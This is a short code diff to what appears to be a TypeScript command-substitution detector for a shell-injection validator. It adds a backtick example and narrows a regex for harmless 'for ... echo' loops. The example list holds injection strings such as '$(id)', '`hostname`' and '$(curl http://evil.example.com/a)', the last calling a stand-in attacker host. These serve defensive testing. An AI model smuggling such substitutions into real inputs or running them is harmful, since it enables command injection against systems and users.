@@ -24,6 +24,7 @@ export const substitution: ValueRule = {
   trigger: { literals: [['$(', '`', '<(', '>(']] },
   judge,
   examples: [
+    'x;`for f in id; do echo $f; done`',
     "The lamp came in a box that was much too large'$(id)' and so on",
     "The lamp came in a box that was much too large'`hostname`' and so on",
     'The files that I mean are these: $(curl http://evil.example.com/a)',
@@ -367,7 +368,7 @@ const documentPath =
 
 /** `for f in *; { echo $f; }`: it only says what is there. */
 const namingLoop =
-  /^`for (\w{1,16}) in [\w.*-]{1,24} ?; ?(?:do|\{) echo "?\$\{?\1\}?"? ?;? ?(?:done|\})`$/;
+  /^`for (\w{1,16}) in [\w.-]{0,16}\*[\w.*-]{0,16} ?; ?(?:do|\{) echo "?\$\{?\1\}?"? ?;? ?(?:done|\})`$/;
 
 /** ``See also: `jobs`.``: words and a colon, and the full stop of the sentence. */
 function isIntroduced(text: string, start: number, end: number): boolean {
